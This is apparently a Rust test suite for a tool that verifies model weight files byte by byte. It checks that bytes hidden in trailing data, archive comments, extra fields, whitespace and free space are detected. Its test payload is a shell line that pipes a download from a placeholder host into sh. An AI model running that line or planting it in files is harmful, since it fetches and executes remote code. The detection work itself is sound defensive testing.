//! Accounts of file bytes: files of the original frameworks account for every byte, and hidden bytes are found anywhere.

use crate::support::{testdata, walk};
use std::path::Path;
use weighbridge::check::{Account, Use};
use weighbridge::finding::{Severity, Verdict};
use weighbridge::formats;
use weighbridge::ops::verify::{VerifyOptions, VerifyReport, verify};

/// The ranges of an account follow each other from the first byte to the last.
fn fills(account: &Account) {
    let mut at = 0;
    for span in &account.spans {
        assert_eq!(span.offset, at, "{}", account.file);
        assert!(span.len > 0 && !span.what.is_empty());
        at += span.len;
    }
    assert_eq!(at, account.bytes, "{}", account.file);
    assert_eq!(Use::ALL.map(|used| account.bytes_of(used)).iter().sum::<u64>(), account.bytes);
}

/// Files with bytes that nothing needs, and why.
const WITH_REST: &[(&str, &str)] = &[
    ("flax/good/unsupported_dtypes.msgpack", "arrays of dtypes that are not read"),
    (
        "hdf5/good/groups_default.h5",
        "the old form of the root group, which was freed when it got a link to another file",
    ),
    ("hdf5/good/layouts_default.h5", "the names of the external files of a dataset that is not read"),
    ("hdf5/good/layouts_latest.h5", "the same, and chunks that a smaller dataset left behind"),
    ("npz/good/bzip2.npz", "a member that is packed in a way that is not read"),
    ("npz/good/comment.npz", "the comment of the archive"),
    ("npz/good/object.npz", "members of Python objects"),
    ("npz/good/other_members.npz", "a member that is no array"),
    ("caffe/good/chunks.caffemodel", "a blob whose elements have a tag each"),
    ("orbax/good/zarr3_codecs/manifest.ocdbt", "an array that is encoded in a way that is not read"),
    ("tflite/good/sparse.tflite", "elements of a sparse tensor"),
    ("tflite/good/strings.tflite", "elements that are text"),
    ("coreml/good/forest.mlmodel", "nodes of trees"),
    ("coreml/good/opaque.mlmodel", "data of a class of the application"),
    ("torch/good/script.pt", "the code of TorchScript"),
];

#[test]
fn files_of_the_originals_account_fully() {
    let mut all = Vec::new();
    let folders = [
        "arrow/good",
        "cast",
        "gguf/good",
        "flax/good",
        "dcp/good",
        "deepspeed/good",
        "hdf5/good",
        "hdf5/heaps",
        "hdf5/small",
        "joblib/good",
        "npy/good",
        "npz/good",
        "onnx/good",
        "mxnet/good",
        "caffe/good",
        "darknet/good",
        "orbax/good",
        "paddle/good",
        "primitiv/good",
        "safetensors/good",
        "tables",
        "tensorflow/good",
        "tflite/good",
        "openvino/good",
        "coreml/good",
        "ncnn/good",
        "torch/good",
        "biggraph/set1",
        "biggraph/set2",
    ];
    for folder in folders.iter().filter(|folder| testdata(folder).is_dir()) {
        walk(&testdata(folder), &mut all);
    }
    all.retain(|path| path.iter().all(|part| part != "bad"));
    let (mut count, mut with_rest) = (0, Vec::new());
    let mut formats_seen = std::collections::BTreeSet::new();
    for path in all {
        if formats::open(&path).is_err() {
            continue;
        }
        let report = verify(&path, &VerifyOptions::default()).unwrap();
        count += 1;
        formats_seen.extend(report.format);
        report.files.iter().for_each(fills);
        let unknown: u64 = report.files.iter().map(|file| file.bytes_of(Use::Unknown)).sum();
        if unknown > 0 {
            let name = path.strip_prefix(testdata("")).unwrap().to_str().unwrap().to_owned();
            assert_ne!(report.verdict, Verdict::Sound, "{name}");
            with_rest.push(name);
        }
    }
    assert!(count > 400, "{count}");
    assert_eq!(formats_seen.len(), formats::ALL.len(), "{formats_seen:?}");
    assert_eq!(with_rest, WITH_REST.iter().map(|(name, _)| *name).collect::<Vec<_>>());
}

/// Hidden bytes: enough to be recognized by their beginning.
const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://example.invalid/ | sh\n";

struct Hide {
    folder: tempfile::TempDir,
}

impl Hide {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap() }
    }

    /// Verifies the golden file after a change of its bytes.
    fn verify(&self, name: &str, change: impl FnOnce(&mut Vec<u8>)) -> VerifyReport {
        let mut bytes = std::fs::read(testdata(name)).unwrap();
        change(&mut bytes);
        let path = self.folder.path().join(Path::new(name).file_name().unwrap());
        std::fs::write(&path, &bytes).unwrap();
        let report = verify(&path, &VerifyOptions::default()).unwrap();
        report.files.iter().for_each(fills);
        report
    }
}

/// True where a finding of that code reports a script, and the verdict is not sound.
fn tells(report: &VerifyReport, codes: &[&str]) -> bool {
    let reported = |f: &weighbridge::finding::Finding| {
        codes.contains(&f.code.as_str())
            && f.severity >= Severity::Unchecked
            && f.text.contains("script")
            && f.offset.is_some()
    };
    report.verdict != Verdict::Sound && report.findings.iter().any(reported)
}

const SAMPLES: &[&str] = &[
    "primitiv/good/trained/trained_xor_a.model",
    "safetensors/good/mlp.safetensors",
    "npy/good/float32.npy",
    "hdf5/small/plain_default.h5",
    "hdf5/small/plain_latest.h5",
    "paddle/good/p262/cnn_state_dict/m_p4.pdparams",
    "torch/good/plain_legacy.pt",
    "torch/good/plain.pt",
    "npz/good/stored.npz",
    "npz/good/zip64_end.npz",
];

#[test]
fn bytes_at_the_end_are_found() {
    let hide = Hide::new();
    for name in SAMPLES {
        let report = hide.verify(name, |bytes| bytes.extend_from_slice(SCRIPT));
        assert!(tells(&report, &["trailing-bytes"]), "{name}: {:?}", report.findings);
        assert_eq!(report.findings.iter().filter(|f| f.code == "trailing-bytes").count(), 1, "{name}");
        assert_eq!(report.files[0].bytes_of(Use::Unknown), SCRIPT.len() as u64, "{name}");
    }
}

/// Adds to the number at `place` and keeps its upper half; returns the old value.
fn move_by(bytes: &mut [u8], place: usize, more: u32) -> u32 {
    let old = u32::from_le_bytes(bytes[place..place + 4].try_into().unwrap());
    if old != u32::MAX {
        bytes[place..place + 4].copy_from_slice(&(old + more).to_le_bytes());
    }
    old
}

#[test]
fn bytes_behind_a_stream_are_damage() {
    // What follows a stream of Paddle would be another one.
    let report = Hide::new()
        .verify("paddle/good/p262/cnn_legacy_separate/batch_norm2d_0.b_0", |b| b.extend_from_slice(SCRIPT));
    assert_eq!(report.verdict, Verdict::Unsound);
}

#[test]
fn bytes_before_the_end_records_are_found() {
    let hide = Hide::new();
    // The footer is found from the end: bytes before it move nothing.
    for name in ["tables/plain.parquet", "tables/plain.uncompressed.arrow", "tables/plain.zstd.arrow"] {
        let report = hide.verify(name, |bytes| {
            let tail = if name.ends_with("arrow") { 10 } else { 8 };
            let at = bytes.len() - tail;
            let footer = u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
            let at = at - footer;
            bytes.splice(at..at, SCRIPT.iter().copied());
        });
        assert!(tells(&report, &["hidden-bytes"]), "{name}: {:?}", report.findings);
    }
    // A directory with adjusted offsets.
    for name in ["npz/good/stored.npz", "npz/good/compressed.npz", "torch/good/plain.pt"] {
        let report = hide.verify(name, |bytes| {
            let len = u32::try_from(SCRIPT.len()).unwrap();
            let end = bytes.len() - 22;
            let at = move_by(bytes, end + 16, len);
            // PyTorch writes the wide record always.
            if &bytes[end - 20..end - 16] == b"PK\x06\x07" {
                let wide = move_by(bytes, end - 12, len);
                move_by(bytes, wide as usize + 48, len);
            }
            bytes.splice(at as usize..at as usize, SCRIPT.iter().copied());
        });
        assert!(tells(&report, &["hidden-bytes"]), "{name}: {:?}", report.findings);
    }
}

#[test]
fn comments_and_extra_fields_of_archives_are_found() {
    let hide = Hide::new();
    let report = hide.verify("npz/good/stored.npz", |bytes| {
        let len = u16::try_from(SCRIPT.len()).unwrap();
        let end = bytes.len();
        bytes[end - 2..].copy_from_slice(&len.to_le_bytes());
        bytes.extend_from_slice(SCRIPT);
    });
    assert!(tells(&report, &["hidden-bytes"]), "{:?}", report.findings);
    // An extra field with an unassigned number, in the last entry of the directory.
    let report = hide.verify("npz/good/stored.npz", |bytes| {
        let end = bytes.len() - 22;
        let at = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
        let number = |bytes: &[u8], at: usize| u16::from_le_bytes(bytes[at..at + 2].try_into().unwrap());
        let (name, old) = (number(bytes, at + 28), number(bytes, at + 30));
        let field = [&[0xfe, 0xca][..], &u16::try_from(SCRIPT.len()).unwrap().to_le_bytes(), SCRIPT].concat();
        let len = u16::try_from(field.len()).unwrap();
        bytes[at + 30..at + 32].copy_from_slice(&(old + len).to_le_bytes());
        let size = u32::from_le_bytes(bytes[end + 12..end + 16].try_into().unwrap()) + u32::from(len);
        bytes[end + 12..end + 16].copy_from_slice(&size.to_le_bytes());
        let place = at + 46 + usize::from(name) + usize::from(old);
        bytes.splice(place..place, field);
    });
    let found: Vec<_> =
        report.findings.iter().map(|f| (f.code.as_str(), f.text.contains("extra field"))).collect();
    assert_eq!((report.verdict, found), (Verdict::CouldNotTell, vec![("hidden-bytes", true)]));
}

#[test]
fn data_hidden_in_blanks_is_found() {
    let hide = Hide::new();
    // A bit for each blank: tabs among spaces.
    let report = hide.verify("npy/good/float32.npy", |bytes| {
        let end = bytes.iter().position(|&byte| byte == b'}').unwrap();
        for place in (end + 2..end + 12).step_by(2) {
            assert_eq!(bytes[place], b' ');
            bytes[place] = b'\t';
        }
    });
    assert_eq!((report.verdict, report.findings[0].code.as_str()), (Verdict::CouldNotTell, "hidden-bytes"));
    let report = hide.verify("safetensors/good/mlp.safetensors", |bytes| {
        let len = u64::from_le_bytes(bytes[..8].try_into().unwrap());
        bytes[..8].copy_from_slice(&(len + 8).to_le_bytes());
        let at = 8 + usize::try_from(len).unwrap();
        bytes.splice(at..at, *b" \t \t\t  \t");
    });
    assert_eq!((report.verdict, report.findings[0].code.as_str()), (Verdict::CouldNotTell, "hidden-bytes"));
    // Spaces alone are what writers fill up with.
    let report = hide.verify("safetensors/good/mlp.safetensors", |bytes| {
        let len = u64::from_le_bytes(bytes[..8].try_into().unwrap());
        bytes[..8].copy_from_slice(&(len + 8).to_le_bytes());
        let at = 8 + usize::try_from(len).unwrap();
        bytes.splice(at..at, [b' '; 8]);
    });
    assert_eq!(report.verdict, Verdict::Sound);
    assert!(report.files[0].bytes_of(Use::Padding) >= 8);
}

#[test]
fn free_space_of_hdf5_is_checked() {
    let hide = Hide::new();
    for name in ["hdf5/small/plain_default.h5", "hdf5/good/many_default.h5"] {
        let before = verify(testdata(name), &VerifyOptions::default()).unwrap();
        let free = before.files[0].spans.iter().find(|s| s.used == Use::Padding && s.len > 60).unwrap();
        let at = usize::try_from(free.offset).unwrap();
        let report = hide.verify(name, |bytes| bytes[at..at + SCRIPT.len()].copy_from_slice(SCRIPT));
        assert!(tells(&report, &["hidden-bytes"]), "{name}: {:?}", report.findings);
    }
}
